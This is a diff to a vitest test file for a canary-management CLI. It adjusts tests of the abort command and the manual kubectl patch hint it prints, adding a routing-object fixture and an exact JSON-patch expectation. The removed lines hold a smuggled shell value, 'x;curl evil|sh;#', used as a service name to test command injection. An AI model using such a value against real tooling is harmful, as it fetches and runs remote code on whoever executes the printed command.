@@ -2,7 +2,7 @@
 import { afterEach, beforeEach, expect, test, vi } from 'vitest'
 import { canaryObject } from '../support/canary-object.ts'
 import { startCluster, type TestCluster } from './support/cluster.ts'
-import { ago, eventObject, workloads } from './support/objects.ts'
+import { ago, eventObject, virtualService, workloads } from './support/objects.ts'
 
 vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })
 
@@ -107,6 +107,7 @@ test('the field manager is none that Flux takes over', async () => {
 })
 
 test('nobody answers: the request stays, and the code is 5', async () => {
+  cluster.put(virtualService('podinfo', 20))
   const { code, stdout, stderr } = await cluster.run('abort podinfo --ack-timeout=1s')
   expect(code).toBe(5)
   expect(stdout).toBe('canary.flagger.app/podinfo abort requested\n')
@@ -118,6 +119,14 @@ test('nobody answers: the request stays, and the code is 5', async () => {
   expect(request('podinfo', 'abort')).toBeDefined()
 })
 
+test('without the object that routes, the way by hand is told in words, and no command made up', async () => {
+  const { stderr } = await cluster.run('abort podinfo --ack-timeout=1s')
+  expect(stderr).toMatch(
+    /by hand.*: give podinfo-primary all of the traffic in the istio object of podinfo/,
+  )
+  expect(stderr).not.toContain('kubectl -n test patch')
+})
+
 test('what is printed to be run acts on the same canary, in the same cluster', async () => {
   const { kubeconfig } = cluster
   cluster.put(
@@ -125,8 +134,8 @@ test('what is printed to be run acts on the same canary, in the same cluster', a
       name: 'podinfo',
       namespace: 'empty',
       status: { ...status, phase: 'WaitingPromotion', canaryAnalysis: { ...run, gate } },
-      spec: { service: { name: 'x;curl evil|sh;#', port: 80 } },
     }),
+    virtualService('podinfo', 20, 'empty'),
   )
   const where = `-n empty --kubeconfig=${kubeconfig} --context=sandbox`
   const { stdout } = await cluster.run(`${where} status podinfo`)
@@ -134,7 +143,10 @@ test('what is printed to be run acts on the same canary, in the same cluster', a
   const aborted = await cluster.run(`${where} abort podinfo --ack-timeout=1s`)
   expect(aborted.stdout).toBe('canary.flagger.app/podinfo (namespace empty) abort requested\n')
   expect(aborted.stderr).toContain(
-    `by hand: kubectl ${where} patch virtualservice 'x;curl evil|sh;#' --type=json`,
+    `by hand: kubectl ${where} patch virtualservice podinfo --type=json -p '[` +
+      '{"op":"replace","path":"/spec/http/0/route/0/weight","value":100},' +
+      '{"op":"replace","path":"/spec/http/0/route/1/weight","value":0}' +
+      "]'",
   )
 })
 
